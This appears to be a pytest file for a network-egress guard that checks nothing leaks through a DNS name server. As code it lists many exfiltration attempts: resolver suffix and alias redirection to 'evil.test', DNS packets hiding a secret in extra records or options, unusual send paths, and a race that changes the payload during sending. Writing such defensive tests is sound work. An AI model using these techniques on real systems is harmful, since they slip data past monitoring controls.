"""Nothing leaves through the name server itself.

No suffix and no alias of a listed name, no question about this machine, no message but one plain question.
"""

from __future__ import annotations

from typing import Any

import pytest

from labtools.addresses import DNSMASQ, DNSMASQ6, INSIDE, INSIDE6, SCRIPTED
from labtools.attack import Attack
from labtools.lab import BY_DNSMASQ, Lab

API = "api.anthropic.com"
LOOKUPS = {
    "getaddrinfo": "socket.getaddrinfo({name}, 443)",
    "gethostbyname": "socket.gethostbyname({name})",
    "gethostbyname_ex": "socket.gethostbyname_ex({name})",
    "connect": "tcp().connect(({name}, 443))",
    "sendto": "udp().sendto(b'x', ({name}, 443))",
    "trio": "import trio; trio.run(trio.open_tcp_stream, {name}, 443)",
    "gevent": "import gevent.socket; gevent.socket.create_connection(({name}, 443), 2)",
    "asyncio": "asyncio.run(asyncio.wait_for(asyncio.open_connection({name}, 443), 9))",
}

# A listed name is looked up as it is listed, whatever the machine and the environment say about suffixes and aliases.
WAYS_TO_A_SUFFIX: dict[str, dict[str, Any]] = {
    "search and ndots in resolv.conf": {"resolv": f"search corp.test\noptions ndots:5\n{BY_DNSMASQ}"},
    "LOCALDOMAIN and RES_OPTIONS": {"environment": {"LOCALDOMAIN": "corp.test", "RES_OPTIONS": "ndots:15"}},
    "the same, set before the guard": {"before": "os.environ.update(LOCALDOMAIN='corp.test', RES_OPTIONS='ndots:15')"},
}
SUFFIXES = [
    Attack(f"suffix: {way}: {route}", code.format(name=repr(API)), f"DNS {API}.corp.test", raises="", may_ask=(API,),
           may_dial=("to 203.0.113.10 ",), where=where)
    for way, where in WAYS_TO_A_SUFFIX.items()
    for route, code in LOOKUPS.items()
] + [
    Attack(f"alias: {route}", code.format(name="'intranet'"), "DNS evil.test", raises="", may_ask=("intranet",),
           may_dial=("to 198.51.100.66 ",), where={
               "before": "open('aliases', 'w').write('intranet evil.test\\n')",
               "environment": {"HOSTALIASES": "aliases"}, "allow": ("intranet:443",)})
    for route, code in LOOKUPS.items()
] + [
    Attack(f"suffix: one label: {route}", code.format(name="'intranet'"), "DNS intranet.corp.test", raises="",
           may_ask=("intranet",), may_dial=("to 198.51.100.66 ",),
           where={"resolv": f"search corp.test\n{BY_DNSMASQ}", "allow": ("intranet:443",)})
    for route, code in LOOKUPS.items()
]  # fmt: skip

# Where /etc/hosts says nothing about this machine, libc asks the name server who it is.
ABOUT_THIS_MACHINE = [
    Attack(f"this machine: {title}", f"result = {code}; assert result", asked, raises="", where={"hosts": ""})
    for title, code, asked in (
        ("localhost", "socket.getaddrinfo('localhost', 80)", "DNS localhost"),
        ("localhost by gethostbyname", "socket.gethostbyname('localhost')", "DNS localhost"),
        ("localhost in capitals", "socket.gethostbyname_ex('LOCALHOST')", "DNS localhost"),
        ("localhost with a dot", "socket.getaddrinfo('localhost.', 80)", "DNS localhost"),
        ("localhost by IPv6", "socket.getaddrinfo('localhost', 80, socket.AF_INET6)", "DNS localhost"),
        ("host name", "socket.getaddrinfo(socket.gethostname(), 80)", "DNS inside"),
        ("host name by gethostbyname", "socket.gethostbyname(socket.gethostname())", "DNS inside"),
        ("host name by gethostbyaddr", "socket.gethostbyaddr(socket.gethostname())", "DNS inside"),
        ("getfqdn", "socket.getfqdn()", "DNS inside"),
        ("bind to localhost", "s = tcp(); s.bind(('localhost', 0)); result = 1", "DNS localhost"),
        ("127.0.0.1", "socket.getfqdn('127.0.0.1')", "1.0.0.127.in-addr.arpa PTR"),
        ("127.0.0.1 by getnameinfo", "socket.getnameinfo(('127.0.0.1', 80), 0)", "1.0.0.127.in-addr.arpa PTR"),
        ("::1", "socket.getnameinfo(('::1', 80), 0)", "ip6.arpa PTR"),
        ("own address", f"socket.getfqdn('{INSIDE}')", "2.0.77.10.in-addr.arpa PTR"),
        ("own address by getnameinfo", f"socket.getnameinfo(('{INSIDE}', 80), 0)", "2.0.77.10.in-addr.arpa PTR"),
        ("own IPv6 address", f"socket.getfqdn('{INSIDE6}')", "ip6.arpa PTR"),
        ("http.server", "__import__('http.server').server.HTTPServer(('127.0.0.1', 0), None)", "1.0.0.127.in-addr"),
    )
]

# Messages of which a name server could make more than an answer about a listed name.
SECRET = "b'secret'"
EMPTY = "b''"
OPTION = "struct.pack('!HH', {code}, 8) + b'8 octets'"


def opt(size: int, options: str) -> str:
    """Return the code of an OPT record: its length field and its options, which may contradict each other."""
    return f"b'\\0' + struct.pack('!HHIH', 41, 1232, 0, {size}) + {options}"


MESSAGES = [
    Attack(f"message: {title}", f"udp().sendto({message}, ('{DNSMASQ}', 53))", f"UDP to {DNSMASQ} port 53")
    for title, message in (
        ("question for another name", "question(EVIL)"),
        ("two listed questions", "question(API, API)"),
        ("a listed question and another", "question(API, EVIL)"),
        ("no question", "question()"),
        ("no message", SECRET),
        ("nothing", "b''"),
        ("an update", "question(API, flags=0x2800, kind=6)"),
        ("a notification", "question(API, flags=0x2000)"),
        ("an inverse query", "question(API, flags=0x0800)"),
        ("an answer", "question(API, flags=0x8180)"),
        ("with bytes behind it", f"question(API, tail={SECRET})"),
        ("with a record after it", ("question(API, additional=1, tail=b'\\xc0\\x0c' + struct.pack('!HHIH', 16, 1, 0, 6)"
         f" + {SECRET})")),
        ("with an answer behind it", ("question(API)[:6] + b'\\0\\1' + question(API)[8:] + b'\\xc0\\x0c'"
         f" + struct.pack('!HHIH', 16, 1, 0, 6) + {SECRET}")),
        ("class CHAOS", "question(API)[:-2] + b'\\0\\3'"),
        ("a label with dots", "question()[:4] + b'\\0\\1' + bytes(6) + b'\\x11api.anthropic.com\\0\\0\\1\\0\\1'"),
        ("a compressed name", "question()[:4] + b'\\0\\1' + bytes(6) + b'\\3api\\xc0\\x0c\\0\\1\\0\\1'"),
        ("cut off", "question(API)[:-1]"),
        *(
            (f"option {name}", f"question(API, additional=1, tail={opt(12, OPTION.format(code=code))})")
            for name, code in (("of private use", 65001), ("client subnet", 8), ("padding that is not zero", 12))
        ),
        ("two OPT records", f"question(API, additional=2, tail=({opt(0, EMPTY)}) * 2)"),
        ("bytes behind OPT", f"question(API, additional=1, tail={opt(0, SECRET)})"),
    )
]  # fmt: skip

WAYS_TO_SEND = [
    Attack(f"name server: {title}", code, shows, where=where)
    for title, code, shows, where in (
        ("sendmsg", f"udp().sendmsg([question(EVIL)], [], 0, ('{DNSMASQ}', 53))", "DNS evil.test", {}),
        ("sendmsg in pieces", f"udp().sendmsg([question(API), {SECRET}], [], 0, ('{DNSMASQ}', 53))",
         f"UDP to {DNSMASQ} port 53", {}),
        ("connect, then send", f"s = udp(); s.connect(('{DNSMASQ}', 53)); s.send(question(EVIL))", "DNS evil.test", {}),
        ("TCP", f"s = tcp(); s.connect(('{DNSMASQ}', 53)); s.send(b'\\0\\x1b' + question(EVIL))", "DNS evil.test", {}),
        ("TCP, fast open", f"tcp().sendto(b'\\0\\x1b' + question(EVIL), socket.MSG_FASTOPEN, ('{DNSMASQ}', 53))",
         f"TCP to {DNSMASQ} port 53 SYN", {}),
        ("UDP-Lite", f"socket.socket(2, 2, 136).sendto(question(API), ('{DNSMASQ}', 53))", f"UDPLITE to {DNSMASQ}", {}),
        ("another port", f"udp().sendto(question(API), ('{DNSMASQ}', 5353))", f"UDP to {DNSMASQ} port 5353", {}),
        ("one that is not ours", f"udp().sendto(question(API), ('{SCRIPTED}', 53))", f"UDP to {SCRIPTED} port 53", {}),
        ("by IPv6", f"udp(10).sendto(question(EVIL), ('{DNSMASQ6}', 53))", "DNS evil.test",
         {"resolv": f"nameserver {DNSMASQ6}\n"}),
        ("by a mapped address", f"udp(10).sendto(question(EVIL), ('::ffff:{DNSMASQ}', 53))", "DNS evil.test", {}),
        ("more to come", f"s = udp(); s.sendto(question(API), socket.MSG_MORE, ('{DNSMASQ}', 53)); s.send({SECRET})",
         "with more than a question", {}),
        ("more to come, by sendmsg",
         f"s = udp(); s.sendmsg([question(API)], [], socket.MSG_MORE, ('{DNSMASQ}', 53)); s.send({SECRET})",
         "with more than a question", {}),
        ("corked", (f"s = udp(); s.setsockopt(17, 1, 1); s.sendto(question(API), ('{DNSMASQ}', 53)); s.send({SECRET});"
         " s.setsockopt(17, 1, 0)"), "with more than a question", {}),
    )
]  # fmt: skip

CHANGING = [
    Attack(
        f"changing: a payload, by {route}",
        f"""
payload = bytearray(question("one.test"))
def change():
    while True:
        for word in (b"bad", b"one"):
            payload[13:16] = word
            time.sleep(0)
threading.Thread(target=change, daemon=True).start()
sys.setswitchinterval(1e-6)
s, server = udp(), ("{DNSMASQ}", 53)
for _ in range(1000):
    attempts(lambda: {call})
""",
        "DNS bad.test",
        raises="",
        may_ask=("one.test",),
        may_dial=("ICMP",),
        where={"allow": ("one.test:443",)},
    )
    for route, call in (
        ("sendto", "s.sendto(payload, server)"),
        ("sendto of a view", "s.sendto(memoryview(payload), server)"),
        ("sendmsg", "s.sendmsg([payload], [], 0, server)"),
    )
]

ATTACKS = [*SUFFIXES, *ABOUT_THIS_MACHINE, *MESSAGES, *WAYS_TO_SEND, *CHANGING]


@pytest.mark.parametrize("attack", ATTACKS, ids=str)
def test_reaches_the_wire_without_the_guard(lab: Lab, attack: Attack) -> None:
    attack.unguarded(lab)


@pytest.mark.parametrize("attack", ATTACKS, ids=str)
def test_nothing_leaves(lab: Lab, attack: Attack) -> None:
    attack.guarded(lab)
